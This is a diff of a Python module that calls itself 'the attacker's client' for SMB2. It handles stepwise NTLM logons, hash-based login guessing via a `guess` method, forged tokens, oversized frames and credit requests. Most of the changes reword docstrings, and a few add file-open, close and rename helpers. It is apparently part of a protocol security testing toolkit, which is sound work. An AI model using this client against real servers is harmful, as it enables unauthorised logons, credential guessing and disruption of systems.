@@ -1,7 +1,6 @@
 """The attacker's client: a connection from an address of its choice, plain, signed or sealed.
 
-It adds to `raw.Client` what an attack needs: a source address, half a handshake, tokens that lie, sealing, and
-frames that are longer than they should be.
+Beyond `raw.Client` it has a source address, a logon in steps, forged tokens, sealing, and oversized frames.
 """
 
 import hashlib
@@ -23,8 +22,16 @@ INSUFFICIENT_RESOURCES, SESSION_DELETED, NAME_NOT_FOUND = 0xC000009A, 0xC0000203
 BAD_NETWORK_NAME = 0xC00000CC
 
 
+def quietly(function, *args, **more):
+    """Returns the result, or None if the server refused, ended the connection or was too slow."""
+    try:
+        return function(*args, **more)
+    except (OSError, raw.Refused):
+        return None
+
+
 def connect(target, source=None, timeout=10):
-    """A TCP connection to `target`, (address, port), from the address `source`."""
+    """Opens a TCP connection to `target`, (address, port), from the address `source`."""
     family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
     end = socket.socket(family, socket.SOCK_STREAM)
     end.settimeout(timeout)
@@ -41,7 +48,7 @@ def connect(target, source=None, timeout=10):
 
 
 class Link(raw.Client):
-    """A connection that has negotiated; `log_on_as` makes a session on it."""
+    """A negotiated connection; `log_on_as` makes a session on it."""
 
     def __init__(self, target, source=None, guid=None, seal=False, timeout=10):
         self.address = target[0]
@@ -53,7 +60,7 @@ class Link(raw.Client):
         self.wants_seal, self.sealing, self.opening, self.nonce = seal, None, None, 0
         self.negotiate()
 
-    # The way in.
+    # Negotiation and logon.
 
     def negotiate(self):
         contexts = struct.pack("<HHIHHH", 1, 38, 0, 1, 32, 1) + os.urandom(32)
@@ -65,7 +72,7 @@ class Link(raw.Client):
         self.base = self.hash
 
     def setup(self, token, session_id=None, previous=0, flags=0):
-        """One SESSION_SETUP; returns its answer, whatever the status, and its token."""
+        """Sends one SESSION_SETUP; returns its answer, with any status, and its token."""
         body = struct.pack("<HBBIIHHQ", 25, flags, 1, 0, 0, 88, len(token), previous) + token
         message = (
             self.header(raw.SESSION_SETUP, 1, 0, self.next_id, 0, self.session_id if session_id is None else session_id)
@@ -85,14 +92,14 @@ class Link(raw.Client):
         return answer, answer.message[offset : offset + length]
 
     def challenge(self, previous=0):
-        """The first half of a logon."""
+        """Begins a logon; returns the server's challenge."""
         self.hash = self.base
         answer, token = self.setup(ntlm.negotiate(), session_id=0, previous=previous)
         self.session_id = answer.must(raw.MORE_PROCESSING).session_id
         return ntlm.Challenge(token)
 
     def guess(self, user, hashed, **odd):
-        """One logon; the status of its last answer. `hashed` is the NT hash of the password."""
+        """Tries one logon; returns the status of the last answer. `hashed` is the NT hash of the password."""
         challenge = self.challenge(odd.pop("previous", 0))
         token, key = ntlm.authenticate(challenge, user, hashed, **odd)
         answer, _ = self.setup(token)
@@ -141,11 +148,8 @@ class Link(raw.Client):
                 raise ConnectionError("an answer that cannot be opened") from None
         return frame
 
-    def read_answers(self):
-        super().read_answers()
-
     def ends(self, seconds):
-        """True if the server ends the connection within this time; what it sends meanwhile is thrown away."""
+        """Returns True if the server ends the connection within `seconds`; discards what it sends."""
         self.socket.settimeout(seconds)
         try:
             while self.socket.recv(65536):
@@ -156,7 +160,7 @@ class Link(raw.Client):
             pass
         return True
 
-    # What is needed often.
+    # Requests that most attacks use.
 
     def connect_tree(self, share):
         path = f"\\\\{self.address}\\{share}".encode("utf-16-le")
@@ -166,30 +170,32 @@ class Link(raw.Client):
         return answer
 
     def open(self, name, **more):
-        """The FileId."""
+        """Opens a file or directory; returns its FileId."""
         return self.call(raw.CREATE, raw.create_body(name, **more)).must().body[64:80]
 
+    def open_directory(self, name=""):
+        """Opens a directory for listing; returns its FileId."""
+        return self.open(name, access=0x100081, options=1)
+
+    def shut(self, file):
+        """Closes a file; returns the answer."""
+        return self.call(raw.CLOSE, raw.close_body(file))
+
+    def rename(self, file, name):
+        """Renames an open file, replacing what has the name, and closes it; returns the status of the rename."""
+        to = name.encode("utf-16-le")
+        data = struct.pack("<B7xQI", 1, 0, len(to)) + to
+        status = self.call(raw.SET_INFO, raw.set_body(file, 1, 10, data)).status
+        self.shut(file)
+        return status
+
     def gain_credits(self, wanted):
-        """ECHOes until the server has granted `wanted` credits, or no more."""
+        """Sends ECHOes until the server has granted `wanted` credits or grants no more; returns the number."""
         granted, before = 0, -1
         while granted < wanted and granted != before:
             before = granted
-            header = struct.pack(
-                "<4sHHIHHIIQIIQ16s",
-                b"\xfeSMB",
-                64,
-                1,
-                0,
-                raw.ECHO,
-                min(wanted, 8000),
-                0,
-                0,
-                self.next_id,
-                0xFEFF,
-                0,
-                self.session_id,
-                bytes(16),
-            )
+            header = self.header(raw.ECHO, 1, 0, self.next_id, 0, self.session_id)
+            header = header[:14] + struct.pack("<H", min(wanted, 8000)) + header[16:]
             message, message_id = header + struct.pack("<HH", 4, 0), self.next_id
             self.next_id += 1
             self.send_frame(self.sign(message) if self.key else message)
